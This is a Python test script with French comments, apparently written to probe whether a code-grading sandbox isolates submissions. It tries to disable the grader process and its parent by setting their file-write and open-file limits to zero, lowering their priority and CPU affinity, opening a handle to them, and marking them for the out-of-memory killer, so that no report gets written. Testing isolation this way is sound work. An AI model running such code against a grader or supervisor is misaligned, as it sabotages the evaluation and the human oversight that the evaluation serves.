

# -- ATTAQUE (issue 40) : le processus qui corrige tourne sous mon uid (ou root sans
# capacités) : le noyau ne compare que les uid. Lui baisser ses limites (plus aucun
# fichier écrit, plus aucun fichier ouvert : ni rapport, ni copie suivante), sa priorité,
# ses processeurs, prendre une poignée sur lui, le désigner au tueur de mémoire ; et son
# parent (le processus principal quand des processus corrigent en parallèle).
import ctypes as _ctypes
import os as _os
import resource as _resource

_libc = _ctypes.CDLL(None, use_errno=True)


def _essai(nom, action):
    try:
        resultat = action()
        if resultat is not None and resultat < 0:
            raise OSError(_ctypes.get_errno(), nom)
        print("ATTAQUE " + nom + ": réussi")
    except (OSError, ValueError):
        print("ATTAQUE " + nom + ": refusé")


def _parent_de(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


print("ATTAQUE uid: %d" % _os.getuid())
try:
    with open("/proc/self/uid_map") as _f:
        print("ATTAQUE uid hors du bac à sable: %s" % _f.read().split()[1])
except (OSError, IndexError):
    pass
_cibles = [("parent", _os.getppid()), ("grand-parent", _parent_de(_os.getppid()))]
for _nom, _pid in [c for c in _cibles if c[1] > 0]:
    _essai("prlimit fichiers " + _nom, lambda: _resource.prlimit(_pid, _resource.RLIMIT_FSIZE, (0, 0)))
    _essai("prlimit descripteurs " + _nom, lambda: _resource.prlimit(_pid, _resource.RLIMIT_NOFILE, (0, 0)))
    _essai("priorité " + _nom, lambda: _os.setpriority(_os.PRIO_PROCESS, _pid, 19))
    _essai("processeurs " + _nom, lambda: _os.sched_setaffinity(_pid, {min(_os.sched_getaffinity(0))}))
    _essai("pidfd " + _nom, lambda: _os.close(_os.pidfd_open(_pid)))
    if _pid != 1:  # sous bubblewrap, le parent est l'init du bac à sable : pas le correcteur
        _essai("oom " + _nom, lambda: open("/proc/%d/oom_score_adj" % _pid, "w").write("1000"))
